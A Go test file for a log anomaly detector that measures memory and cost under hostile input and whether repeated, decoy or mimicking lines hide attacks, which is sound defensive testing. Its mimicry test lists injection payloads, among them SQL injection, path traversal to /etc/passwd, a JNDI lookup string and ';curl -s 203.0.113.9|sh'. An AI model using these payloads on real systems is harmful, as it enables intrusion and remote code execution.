package detector_test

import (
	"bytes"
	"fmt"
	"math"
	"math/rand/v2"
	"os"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/flb-anomaly/flb-anomaly/detector"
	"github.com/flb-anomaly/flb-anomaly/detector/pattern"
	"github.com/flb-anomaly/flb-anomaly/test/harness/testbuild"
)

// attack is a message that nobody wants to be taught as normal.
const attack = "ALERT unauthorized root login from 203.0.113.9, audit log disabled"

// randomLine is text of random words, all of them new.
func randomLine(rng *rand.Rand, b []byte) []byte {
	b = b[:0]
	for range 3 + rng.IntN(20) {
		for range 2 + rng.IntN(9) {
			b = append(b, byte('a'+rng.IntN(26)))
		}
		b = append(b, ' ')
	}
	return b
}

// TestRandomTextHasBoundedMemory lets an attacker write lines of which each is
// new, with levels, numbers and lengths of all kinds.
func TestRandomTextHasBoundedMemory(t *testing.T) {
	if testbuild.Race {
		t.Skip("SKIPPED under the race detector: one goroutine has no races to find; make test runs it")
	}
	total := 150_000
	if os.Getenv("RELIABILITY") == "long" {
		total = 2_000_000
	}
	if testing.Short() {
		total = 50_000
	}
	d := newDetector(t, nil)
	rng := rand.New(rand.NewPCG(3, 4))
	heap := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	before := heap()
	var line []byte
	var v detector.Verdict
	var half uint64
	for i := range total {
		line = randomLine(rng, line)
		if d.Observe(&detector.Event{Message: line}, &v); i == total/2 {
			half = heap()
		}
	}
	end := heap()
	t.Logf("%d lines of random words: the model takes %d KB after half of them and %d KB at the end", total, (half-before)>>10, (end-before)>>10)
	if end > half+half/10+256<<10 || end-before > 8<<20 {
		t.Error("memory grows with hostile text")
	}
	runtime.KeepAlive(d)
}

// processorTime is how long this thread has run, whatever else the machine does.
func processorTime(t *testing.T) time.Duration {
	t.Helper()
	var ts unix.Timespec
	if err := unix.ClockGettime(unix.CLOCK_THREAD_CPUTIME_ID, &ts); err != nil {
		t.Skipf("SKIPPED, NOT TESTED: the system has no clock of a thread's own (CLOCK_THREAD_CPUTIME_ID): %v", err)
	}
	return time.Duration(ts.Nano())
}

// TestWorstLines holds what the lines cost that cost most, beside routine ones,
// against what docs/reliability.md says, in the thread's own time. Machines differ,
// and other work on them counts: it is for make reliability, on a quiet one, where
// four times as much fails. What bounds the cost, whatever the clock says, is held by
// TestWorkIsBounded.
func TestWorstLines(t *testing.T) {
	hold := costs(t)
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	rng := rand.New(rand.NewPCG(5, 6))
	distinct := func(line func(i int) string) [][]byte {
		list := make([][]byte, 2000)
		for i := range list {
			list[i] = []byte(line(i))
		}
		return list
	}
	words := func(n, length int) string {
		var b strings.Builder
		for range n {
			for range length {
				b.WriteByte(byte('a' + rng.IntN(26)))
			}
			b.WriteByte(' ')
		}
		return b.String()
	}
	kinds := []struct {
		name   string
		lines  [][]byte
		groups [][]byte // of the lines; none = no Group_By
	}{
		{"routine", healthy(2000, 1), nil},
		{"random words, 150 bytes", distinct(func(int) string { return words(20, 6) }), nil},
		{"random words, 4 KB", distinct(func(int) string { return words(580, 6) }), nil},
		{"single letters, 384 bytes", distinct(func(int) string { return words(192, 1) }), nil},
		{"words of failure, 4 KB", distinct(func(i int) string { return strings.Repeat(fmt.Sprintf("failed timeout %d ", i), 220) }), nil},
		{"dates and addresses, 4 KB", distinct(func(i int) string {
			return strings.Repeat(fmt.Sprintf("2026-03-02T12:00:%02dZ 10.0.0.%d ", i%60, i%256), 120)
		}), nil},
		{"hex and quotes, 4 KB", distinct(func(i int) string { return strings.Repeat(fmt.Sprintf("\"0x%x\"-", i), 500) }), nil},
		{"punctuation, 4 KB", distinct(func(i int) string { return strings.Repeat("{[(\"'<", 680) + fmt.Sprint(i) }), nil},
		{"escapes, 4 KB", distinct(func(i int) string { return strings.Repeat("\x1b[", 2000) + fmt.Sprint(i) }), nil},
		{"1 MB in one run of letters", [][]byte{bytes.Repeat([]byte("x"), 1<<20)}, nil},
		{"a `Group_By` value of 1 MB", healthy(2000, 1), [][]byte{bytes.Repeat([]byte("n"), 1<<20)}},
		{"a new `Group_By` value in each line", healthy(2000, 1), distinct(func(int) string { return words(1, 16) })},
		{"three `Ignore` expressions on a flagged line of 1 MB", distinct(func(i int) string { return "FATAL " + words(3, 9) })[:20], nil},
	}
	var routine float64
	for _, k := range kinds {
		d := newDetector(t, func(o *detector.Options) {
			if strings.Contains(k.name, "Ignore") {
				o.Ignore = []string{"(planned|scheduled) drill", `user=\w+@example`, "a.*b.*c$"}
				for i := range k.lines {
					k.lines[i] = append(k.lines[i], bytes.Repeat([]byte("word "), 1<<20/5)...)
				}
			}
		})
		verdicts(d, healthy(5000, 2))
		best := time.Duration(1 << 62)
		var v detector.Verdict
		for range 5 {
			start := processorTime(t)
			for i := range k.lines {
				ev := detector.Event{Message: k.lines[i]}
				if k.groups != nil {
					ev.Group = k.groups[i%len(k.groups)]
				}
				d.Observe(&ev, &v)
			}
			best = min(best, processorTime(t)-start)
			if k.name != "routine" { // each time as new as the first
				for _, name := range k.groups[min(1, len(k.groups)):] {
					rng.Shuffle(len(name), func(a, b int) { name[a], name[b] = name[b], name[a] })
				}
				for i := range k.lines {
					rng.Shuffle(min(100, len(k.lines[i])), func(a, b int) { k.lines[i][a], k.lines[i][b] = k.lines[i][b], k.lines[i][a] })
				}
			}
		}
		perLine := float64(best.Nanoseconds()) / float64(len(k.lines))
		if routine == 0 {
			routine = perLine
		}
		t.Logf("%s: %.1f us a line", k.name, perLine/1000)
		hold(k.name, perLine/routine)
	}
}

// TestWorkIsBounded: nothing behind the first pattern.MaxBytes of a message is read,
// so that none costs more than those. Two logs that differ there alone give the same
// verdicts, and models that are equal byte by byte.
func TestWorkIsBounded(t *testing.T) {
	kinds := []string{"failed timeout 17 ", "2026-03-02T12:00:01Z 10.0.0.1 ", "\"0x1f\"-", "{[(\"'<", "\x1b[", "x", "a ", "1,234.5ms "}
	// made is all that is made of lines whose bytes from the given one on are those
	// of a seed.
	made := func(from int, seed uint64) []byte {
		lines, tails := rand.New(rand.NewPCG(9, 9)), rand.New(rand.NewPCG(seed, seed))
		d := newDetector(t, nil)
		verdicts(d, healthy(1000, 2))
		var all bytes.Buffer
		for i := range 25 * len(kinds) {
			line := bytes.Repeat([]byte(kinds[i%len(kinds)]), 3*pattern.MaxBytes)[:2*pattern.MaxBytes+i%7]
			for range 200 { // each is new
				line[lines.IntN(pattern.MaxBytes-100)] = byte('a' + lines.IntN(26))
			}
			for k := from; k < len(line); k++ {
				line[k] = byte(' ' + tails.IntN(90))
			}
			var v detector.Verdict
			d.Observe(&detector.Event{Message: line}, &v)
			fmt.Fprintf(&all, "%+v\n", v)
		}
		if err := d.WriteSnapshot(&all, "test", time.Time{}); err != nil {
			t.Fatal(err)
		}
		return all.Bytes()
	}
	if !bytes.Equal(made(pattern.MaxBytes, 1), made(pattern.MaxBytes, 2)) {
		t.Errorf("what stands behind the first %d bytes counts", pattern.MaxBytes)
	}
	if bytes.Equal(made(100, 1), made(100, 2)) {
		t.Error("nothing counts")
	}
}

// costs returns a function that holds how many times what is routine something costs
// against the tables of docs/reliability.md.
func costs(t *testing.T) (hold func(what string, times float64)) {
	if os.Getenv("RELIABILITY") != "long" {
		t.Skip("SKIPPED, NOT TESTED: RELIABILITY=long is not set, without which nothing measures time; make reliability sets it, .ci/run does in a step of its own")
	}
	page, err := os.ReadFile(reliability)
	if err != nil {
		t.Fatal(err)
	}
	said := map[string]float64{}
	for _, m := range regexp.MustCompile(`(?m)^\| ([^|]+) \| (\d+) \|$`).FindAllStringSubmatch(string(page), -1) {
		said[m[1]], _ = strconv.ParseFloat(m[2], 64)
	}
	return func(what string, times float64) {
		t.Helper()
		t.Logf("%s: %.1f times what is routine", what, times)
		if said[what] == 0 {
			t.Errorf("%s says nothing of %s", reliability, what)
		} else if times > 4*said[what] {
			t.Errorf("%s: it costs %.1f times what is routine, and %s says %.0f", what, times, reliability, said[what])
		}
	}
}

// TestWorstRecords is TestWorstLines for records with fields.
func TestWorstRecords(t *testing.T) {
	hold := costs(t)
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	cost := func(list []detector.Event) float64 {
		d := newDetector(t, nil)
		observe(d, list)
		best := time.Duration(1 << 62)
		var v detector.Verdict
		for range 3 {
			start := processorTime(t)
			for i := range list {
				d.Observe(&list[i], &v)
			}
			best = min(best, processorTime(t)-start)
		}
		return float64(best.Nanoseconds()) / float64(len(list))
	}
	routine := cost(fieldEvents(t, 900))
	t.Logf("a routine record: %.1f us", routine/1000)
	for kind, h := range hostileFields {
		hold(h.name, cost(manyFields(kind, 2000))/routine)
	}
}

// reliability is the page that says what whoever writes log lines can do. Its
// figures are written by the tests here (UPDATE=1), and held against them.
const reliability = "../docs/reliability.md"

// TestTeachingAnAttack measures what it takes until an attack's message is no
// longer flagged, when whoever can write lines repeats it at different paces
// within a healthy stream.
func TestTeachingAnAttack(t *testing.T) {
	if testbuild.Race {
		t.Skip("SKIPPED under the race detector: one goroutine has no races to find; make test runs it")
	}
	var table strings.Builder
	table.WriteString("| the attacker writes | flagged | the last time at repetition |\n| --- | --- | --- |\n")
	for _, c := range []struct {
		what  string
		every int  // one line of the attacker's in so many
		vary  bool // the attacker changes a word each time
	}{
		{"the same line, one in 1,000 lines", 1000, false},
		{"the same line, one in 100 lines", 100, false},
		{"the same line, one in 10 lines", 10, false},
		{"the same line without a break", 1, false},
		{"a new word in it each time, one in 100 lines", 100, true},
		{"a new word in it each time, one in 10 lines", 10, true},
		{"a new word in it each time, without a break", 1, true},
	} {
		repetitions := min(300, 100_000/c.every)
		d := newDetector(t, nil)
		lines := healthy(10_000+repetitions*c.every, 12)
		verdicts(d, lines[:10_000])
		rest := lines[10_000:]
		flagged, last, unbroken := 0, 0, 0
		var v detector.Verdict
		for n := range repetitions {
			for _, line := range rest[n*c.every : n*c.every+c.every-1] {
				d.Observe(&detector.Event{Message: line}, &v)
			}
			message := attack
			if c.vary {
				message = strings.Replace(message, "root", letterWord(1000+n*17), 1)
			}
			if d.Observe(&detector.Event{Message: []byte(message)}, &v); v.Anomaly {
				flagged, last = flagged+1, n+1
				if unbroken == n {
					unbroken++
				}
			}
		}
		fmt.Fprintf(&table, "| %s | %d of %d times | %d |\n", c.what, flagged, repetitions, last)
		if unbroken == 0 {
			t.Errorf("%s: the first one is not flagged", c.what)
		}
		if flagged < 6 {
			t.Errorf("%s: taught after it was flagged %d times", c.what, flagged)
		}
		// Until it was said for three eighths of the time that the log is known.
		if used := 10_000 * 3 / 5 / c.every; c.every <= 100 && last <= min(used, repetitions)/2 {
			t.Errorf("%s: what goes on is not reported again after repetition %d", c.what, last)
		}
	}
	// What was taught stays: the model is asked again when it has not seen it for long.
	d := newDetector(t, nil)
	lines := healthy(120_000, 13)
	verdicts(d, lines[:10_000])
	taught := make([][]byte, 100)
	for i := range taught {
		taught[i] = []byte(attack)
	}
	verdicts(d, taught)
	verdicts(d, lines[10_000:])
	after := verdicts(d, [][]byte{[]byte(attack)})[0]
	flagged := "which is not flagged"
	if after.Anomaly {
		flagged = "which is flagged"
	}
	fmt.Fprintf(&table, "\nTaught by 100 lines without a break, it has a score of %.2f when 110,000 healthy lines\nhave passed, %s.\n", after.Score, flagged)
	holdsOn(t, reliability, "teaching", func(string) string { return table.String() })
}

// TestSmokescreen writes lines made to be flagged right before an attack: in a storm
// the bar rises, but not without end, and by half only for lines of another kind.
func TestSmokescreen(t *testing.T) {
	if testbuild.Race {
		t.Skip("SKIPPED under the race detector: one goroutine has no races to find; make test runs it")
	}
	lines := healthy(10_000, 14)
	failures := []string{"failed", "denied", "corrupt", "panic", "refused", "timeout", "killed", "unreachable"}
	decoys := []struct {
		what  string
		write func(rng *rand.Rand, n int) []byte
	}{
		{"lines that are strange in all ways", func(rng *rand.Rand, n int) []byte {
			return fmt.Appendf(nil, "FATAL %s%s %s %d %s", randomLine(rng, nil), failures[rng.IntN(8)], failures[rng.IntN(8)], rng.Uint64(), strings.Repeat("x", n*7%300))
		}},
		{"errors of random words", func(rng *rand.Rand, _ int) []byte { return append([]byte("ERROR "), randomLine(rng, nil)...) }},
		{"lines of random words", func(rng *rand.Rand, _ int) []byte { return randomLine(rng, nil) }},
		{"times the same error", func(_ *rand.Rand, n int) []byte {
			return fmt.Appendf(nil, "FATAL database corrupt, panic: killed %d", n)
		}},
	}
	attacks := []struct {
		line string
		most int // decoys that must not hide it
	}{
		{attack, 500},
		{"WARN login of root from 203.0.113.9 accepted with a password", 100},
		{"audit log disabled by uid 0", 100},
	}
	var table strings.Builder
	table.WriteString("| right before it |")
	for _, a := range attacks {
		fmt.Fprintf(&table, " `%s` |", a.line)
	}
	table.WriteString("\n| --- |" + strings.Repeat(" --- |", len(attacks)) + "\n")
	bar := 0.0
	row := func(name string, n int, write func(rng *rand.Rand, n int) []byte) {
		fmt.Fprintf(&table, "| %s |", name)
		for _, a := range attacks {
			rng := rand.New(rand.NewPCG(7, 8))
			d := newDetector(t, nil)
			verdicts(d, lines)
			for i := range n {
				d.Observe(&detector.Event{Message: write(rng, i)}, new(detector.Verdict))
				bar = max(bar, d.Stats().Threshold)
			}
			v := verdicts(d, [][]byte{[]byte(a.line)})[0]
			if !v.Anomaly && n <= a.most {
				t.Errorf("%s hide %q: score %.3f, threshold %.3f", name, a.line, v.Score, d.Stats().Threshold)
			}
			fmt.Fprintf(&table, " %s |", map[bool]string{true: "flagged", false: "hidden"}[v.Anomaly])
		}
		table.WriteString("\n")
	}
	row("nothing", 0, nil)
	for _, d := range decoys {
		for _, n := range []int{20, 100, 500} {
			row(fmt.Sprint(n, " ", d.what), n, d.write)
		}
	}
	fmt.Fprintf(&table, "\nThe bar rose to a score of %.2f.\n", bar)
	holdsOn(t, reliability, "smokescreens", func(string) string { return table.String() })
}

// TestMimicry writes payloads into places that vary, where what is new is no news
// by itself: as a message alone, and as a record with the same in its fields.
func TestMimicry(t *testing.T) {
	if testbuild.Race {
		t.Skip("SKIPPED under the race detector: one goroutine has no races to find; make test runs it")
	}
	rng := rand.New(rand.NewPCG(9, 10))
	pick := func(list ...string) string { return list[rng.IntN(len(list))] }
	user := func() string {
		return pick("ann", "bob", "carla", "dieter", "eva", "farid", "greta", "hugo") + fmt.Sprint(rng.IntN(40))
	}
	things := func() string {
		return pick("red", "blue", "small", "large", "used", "new") + " " + pick("chair", "lamp", "table", "shelf", "desk", "sofa", "mirror")
	}
	path := func() string { return fmt.Sprintf("/%s/%d", pick("cart", "items", "orders", "users"), rng.IntN(5000)) }
	places := []struct {
		name  string
		value func() string
		write func(ev *detector.Event, fields bool, value string)
	}{
		{"a user's name", user, func(ev *detector.Event, fields bool, value string) {
			if fields {
				ev.Message = []byte("login accepted")
				addField(ev, "user", value)
				addField(ev, "method", "password")
				return
			}
			ev.Message = fmt.Appendf(nil, "login of %s accepted by password", value)
		}},
		{"a path", path, func(ev *detector.Event, fields bool, value string) {
			if fields {
				ev.Message = []byte("request completed")
				addField(ev, "path", value)
				addNumber(ev, "status", 200)
				return
			}
			ev.Message = fmt.Appendf(nil, "GET %s 200", value)
		}},
		{"a text of a user's", things, func(ev *detector.Event, fields bool, value string) {
			if fields {
				ev.Message = []byte("search done")
				addField(ev, "query", value)
				addNumber(ev, "hits", float64(rng.IntN(30)))
				return
			}
			ev.Message = fmt.Appendf(nil, "search for %s found %d", value, rng.IntN(30))
		}},
	}
	payloads := []string{ // the empty one stands for one that looks like what is usual
		"root", "", "admin' OR '1'='1", "../../../../etc/passwd", "${jndi:ldap://203.0.113.9/a}", "<script>alert(1)</script>", ";curl -s 203.0.113.9|sh",
		strings.Repeat("QUFB", 60),
	}
	var table strings.Builder
	table.WriteString("| in the place of |")
	for _, p := range places {
		fmt.Fprintf(&table, " %s: in the message | in a field |", p.name)
	}
	table.WriteString("\n| --- |" + strings.Repeat(" --- |", 2*len(places)) + "\n")
	var d [2]*detector.Detector
	event := func(place int, fields bool, value string) *detector.Event {
		ev := new(detector.Event)
		places[place].write(ev, fields, value)
		return ev
	}
	for k := range d {
		d[k] = newDetector(t, nil)
		flagged := 0
		for i := range 12_000 {
			place := rng.IntN(len(places))
			var v detector.Verdict
			if d[k].Observe(event(place, k == 1, places[place].value()), &v); v.Anomaly && i > 2000 {
				flagged++
			}
		}
		if flagged > 10 {
			t.Fatalf("%d of 10,000 healthy records are flagged", flagged)
		}
		for d[k].Stats().Threshold > 0.5 { // the last of them has raised the bar
			d[k].Observe(event(0, k == 1, "ann7"), new(detector.Verdict))
		}
	}
	found := [2]int{}
	for _, payload := range payloads {
		shown := "`" + strings.ReplaceAll(payload, "|", "\\|") + "`"
		switch {
		case payload == "":
			shown = "what is usual there, and `;id` behind it"
		case len(payload) > 40:
			shown = fmt.Sprintf("`%s…`, %d bytes", payload[:8], len(payload))
		}
		fmt.Fprintf(&table, "| %s |", shown)
		for place := range places {
			value := payload
			if value == "" {
				value = places[place].value() + ";id"
			}
			for k := range d {
				var v detector.Verdict
				d[k].Judge(event(place, k == 1, value), &v)
				said := "passes"
				if v.Anomaly {
					said = "flagged"
					found[k]++
				}
				fmt.Fprintf(&table, " %s |", said)
			}
		}
		table.WriteString("\n")
	}
	all := len(payloads) * len(places)
	fmt.Fprintf(&table, "\nOf %d, %d are flagged in a message and %d in a field of their own.\n", all, found[0], found[1])
	holdsOn(t, reliability, "mimicry", func(string) string { return table.String() })
	if found[1] < found[0]-1 {
		t.Errorf("%d are flagged in fields, %d in messages: a field of its own tells as much", found[1], found[0])
	}
}

// TestStormIsOverByTheClock: what a storm has raised comes down by the records' time
// too, where few records follow it.
func TestStormIsOverByTheClock(t *testing.T) {
	lines := healthy(10_000, 14)
	at := time.Duration(time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC).UnixNano())
	after := func(pause time.Duration) float64 {
		d := newDetector(t, nil)
		rng := rand.New(rand.NewPCG(7, 8))
		now := at
		observe := func(message []byte) {
			now += time.Second
			d.Observe(&detector.Event{Time: now, Message: message}, new(detector.Verdict))
		}
		for _, line := range lines {
			observe(line)
		}
		for range 20 {
			observe(append([]byte("ERROR "), randomLine(rng, nil)...))
		}
		now += pause
		for _, line := range lines[:3] { // so many are believed
			observe(line)
		}
		return d.Stats().Threshold
	}
	soon, later := after(0), after(10*24*time.Hour)
	if soon < 0.52 || later > 0.501 {
		t.Errorf("a threshold of %.3f right after a storm and %.3f ten days later, at least 0.52 and about 0.5 wanted", soon, later)
	}
}

// TestStormIsOverByRecords: what a storm has raised is half of it after 40 records,
// at whatever pace they come.
func TestStormIsOverByRecords(t *testing.T) {
	// bar is by how much the threshold is raised, in shares of what it is in a calm.
	bar := func(d *detector.Detector) float64 { return -math.Log2(1-d.Stats().Threshold) - 1 }
	d := newDetector(t, nil)
	log := healthy(10_400, 14)
	verdicts(d, log[:10_000])
	rng := rand.New(rand.NewPCG(7, 8))
	for range 20 {
		d.Observe(&detector.Event{Message: randomLine(rng, nil)}, new(detector.Verdict))
	}
	high := bar(d)
	if high < 0.1 {
		t.Fatalf("the bar of a storm of 20 lines is %.3f", high)
	}
	lines := log[10_000:]
	for n := 40; n <= 200; n += 40 {
		for _, v := range verdicts(d, lines[n-40:n]) {
			if v.Anomaly {
				t.Fatalf("a healthy line is flagged, and raises the bar: %s", v.Reason)
			}
		}
		if got, want := bar(d), high*math.Exp2(-float64(n)/40); math.Abs(got-want) > want/20 {
			t.Errorf("%d records later the bar is %.4f, want %.4f", n, got, want)
		}
	}
	verdicts(d, lines[200:])
	verdicts(d, lines)
	if got := bar(d); got != 0 {
		t.Errorf("the bar does not come down to 0: %g", got)
	}
}
